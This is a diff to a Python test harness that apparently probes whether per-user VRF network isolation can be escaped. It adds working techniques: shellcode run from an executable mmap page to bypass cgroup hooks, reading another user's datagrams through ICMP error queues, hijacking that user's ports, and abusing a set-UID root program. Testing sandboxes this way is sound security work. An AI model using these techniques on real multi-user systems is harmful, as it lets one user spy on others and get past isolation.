@@ -9,9 +9,11 @@ the attack's token arrived. Standard library only, Python >= 3.9.
 
 from __future__ import annotations
 
+import contextlib
 import ctypes
 import hashlib
 import json
+import mmap
 import os
 import signal
 import socket
@@ -29,12 +31,31 @@ OWN_NAT4 = "100.64.7.209"
 OFFNET = ("198.51.100.10", 8080)
 TCP, UDP, UDPLITE, SCTP, MPTCP, SMC, VSOCK, EAVESDROP = 5601, 5602, 5603, 5604, 5605, 5606, 5607, 5699
 ABSTRACT = "\0uvn-escape"
+# bob's ports, by the attack on them: a client of a server that is down; a listener, and 20 higher its client; ports that he binds
+ERRORS = {
+    "errors of another's datagrams": 5610,
+    "errors of another's datagrams, IPv6": 5611,
+    "errors of another's datagrams, 32-bit call": 5612,
+    "errors kept from a client": 5613,
+}
+TALKS = {
+    "a deaf listener": 5620,
+    "a deaf listener, IPv6": 5621,
+    "a deaf listener, unbound with its peer": 5622,
+    "a deaf client": 5623,
+}
+PORTS = {"a taken TCP port": 5660, "a taken UDP port": 5661, "many taken UDP ports": 5662}
+MANY = 200  # ports from the last on
+DOWN = 9  # nobody listens there
+SET_UID = "/usr/local/bin/uvn-escape-root"
 FDB_MAC, ARP_MAC = "02:00:00:00:00:67", "02:00:00:00:00:68"
 IPPROTO_MPTCP, IPPROTO_UDPLITE, IPPROTO_L2TP, NETLINK_USERSOCK, AF_SMC, AF_KCM = 262, 136, 115, 2, 43, 41
-IP_PKTINFO, IP_FREEBIND, IP_TRANSPARENT, IP_UNICAST_IF = 8, 15, 19, 50
-IPV6_FREEBIND, IPV6_PKTINFO, SO_BINDTOIFINDEX = 78, 50, 62
+IP_PKTINFO, IP_RECVERR, IP_FREEBIND, IP_TRANSPARENT, IP_UNICAST_IF = 8, 11, 15, 19, 50
+IPV6_RECVERR, IPV6_FREEBIND, IPV6_PKTINFO, SO_BINDTOIFINDEX = 25, 78, 50, 62
 WAIT = 1.5  # seconds for an answer
 SILENT = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+
+DGRAM, STREAM, INET, INET6 = socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.AF_INET, socket.AF_INET6
 
 libc = ctypes.CDLL(None, use_errno=True)
 
@@ -143,6 +164,72 @@ def impersonate() -> str:
     sock = into(unbound(), VRF)
     sock.bind(("127.0.0.1", EAVESDROP))
     return answer(sock)
+
+
+def bind_32(sock: socket.socket) -> None:
+    """SO_BINDTOIFINDEX as a 32-bit program asks for it (int $0x80), which programs on the cgroup do not see."""
+    code = bytes.fromhex("5356578b078b5f048b4f088b570c8b77108b7f14cd805f5e5bc3")  # registers from the array, the call, and back
+    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT; read, write, execute
+    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
+    page[: len(code)] = code
+    page[256:260] = struct.pack("=i", socket.if_nametoindex(VRF))
+    page[512:536] = struct.pack("=6i", 366, sock.fileno(), socket.SOL_SOCKET, SO_BINDTOIFINDEX, start + 256, 4)
+    ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(start)(start + 512)
+
+
+def copy(family: int, port: int, peer: int = 0, move=lambda sock: into(sock, VRF)) -> socket.socket:
+    """A socket with one of bob's ports, in his VRF if that can be; what is refused on the way does not stop her."""
+    sock = udp(family)
+    sock.setsockopt(socket.IPPROTO_IP, IP_RECVERR, 1)
+    if family == INET6:
+        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_RECVERR, 1)
+    sock.bind(("", port))
+    libc.connect(sock.fileno(), bytes(16), 16)  # AF_UNSPEC: the device goes, the port stays
+    with contextlib.suppress(OSError):
+        move(sock)
+    if peer:
+        with contextlib.suppress(OSError):
+            sock.connect(("::1" if family == INET6 else "127.0.0.1", peer))
+    return sock
+
+
+def errors(sock: socket.socket) -> str:
+    """ICMP errors quote what bob sent."""
+    sock.setblocking(False)
+    for _again in range(40):
+        time.sleep(0.1)
+        with contextlib.suppress(BlockingIOError):
+            return sock.recvmsg(2000, 1000, socket.MSG_ERRQUEUE)[0].decode()
+    return "no errors"
+
+
+def stay(_held: object) -> str:
+    """bob tells what he misses meanwhile."""
+    time.sleep(4)
+    return "stayed"
+
+
+def take(kind: int, port: int) -> str:
+    """A port of bob's VRF: the scope id becomes the device."""
+    sock = socket.socket(INET6, kind)
+    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+    with contextlib.suppress(OSError):
+        sock.bind(("fe80::1", port, 0, socket.if_nametoindex(VRF)))
+    return stay(sock)
+
+
+def as_set_uid() -> str:
+    """A set-UID root program that opens its socket first, drops its rights and lets its caller name a device."""
+    code = f"""
+import ctypes, os, socket
+sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+os.setresuid(*[os.getuid()] * 3)
+ctypes.CDLL(None).connect(sock.fileno(), bytes(16), 16)
+sock.setsockopt(1, 25, {VRF.encode()!r})
+sock.sendto({token()!r}, ("127.0.0.1", {UDP}))
+print(sock.getsockopt(1, 25, 16))
+"""
+    return output(SET_UID, "-I", "-c", code)
 
 
 def transparent() -> str:
@@ -294,8 +381,6 @@ def io_uring() -> str:
     sq = struct.unpack_from("=7I", parameters.raw, 40)  # head, tail, ring_mask, ring_entries, flags, dropped, array
     cq = struct.unpack_from("=5I", parameters.raw, 80)  # head, tail, ring_mask, ring_entries, overflow, then cqes
     cqes = struct.unpack_from("=6I", parameters.raw, 80)[5]
-    import mmap
-
     rings = mmap.mmap(ring, 4096, offset=0)
     entries = mmap.mmap(ring, 4096, offset=0x10000000)
     entries[:64] = struct.pack("=BBHiQQII32x", 45, 0, 0, socket.AF_INET, socket.SOCK_DGRAM, 0, 0, 0)  # IORING_OP_SOCKET
@@ -361,13 +446,13 @@ def dns() -> str:
 
 
 def unconnected() -> str:
-    """glibc's getaddrinfo and others dissolve associations; a datagram socket may still be used up to there."""
-    sock = udp()
-    sock.connect(("127.0.0.1", 9))
+    """glibc's getaddrinfo and others dissolve an association and make another one with the same socket."""
+    sock = unbound()
+    sock.connect(("127.0.0.1", DOWN))
+    sock.send(b"hello")
     return "hello"
 
 
-DGRAM, STREAM, INET6 = socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.AF_INET6
 PROGRAMS = {
     "TCP": lambda: talk(socket.socket(), ("127.0.0.1", TCP)),
     "TCP, other node": lambda: talk(socket.socket(), (THERE4, TCP)),
@@ -406,6 +491,18 @@ PROGRAMS = {
     "unbound, IPv6": lambda: ask(into(unbound(INET6), VRF), ("::1", UDP)),
     "unbound, eavesdropping": eavesdrop,
     "unbound, impersonating": impersonate,
+    "errors of another's datagrams": lambda: errors(copy(INET, ERRORS[CURRENT], DOWN)),
+    "errors of another's datagrams, IPv6": lambda: errors(copy(INET6, ERRORS[CURRENT], DOWN)),
+    "errors of another's datagrams, 32-bit call": lambda: errors(copy(INET, ERRORS[CURRENT], DOWN, bind_32)),
+    "errors kept from a client": lambda: stay(copy(INET, ERRORS[CURRENT], DOWN)),
+    "a deaf listener": lambda: stay(copy(INET, TALKS[CURRENT], TALKS[CURRENT] + 20)),
+    "a deaf listener, IPv6": lambda: stay(copy(INET6, TALKS[CURRENT], TALKS[CURRENT] + 20)),
+    "a deaf listener, unbound with its peer": lambda: stay(copy(INET, TALKS[CURRENT], TALKS[CURRENT] + 20, lambda sock: None)),
+    "a deaf client": lambda: stay(copy(INET, TALKS[CURRENT] + 20, TALKS[CURRENT])),
+    "a taken TCP port": lambda: take(STREAM, PORTS[CURRENT]),
+    "a taken UDP port": lambda: take(DGRAM, PORTS[CURRENT]),
+    "many taken UDP ports": lambda: stay([copy(INET, PORTS[CURRENT] + number) for number in range(MANY)]),
+    "set-UID root program": as_set_uid,
     "link-local bind, UDP": lambda: bind_scoped(DGRAM, "fe80::1"),
     "link-local bind, multicast": lambda: bind_scoped(DGRAM, "ff02::1"),
     "link-local bind, TCP": lambda: bind_scoped(STREAM, "fe80::1"),
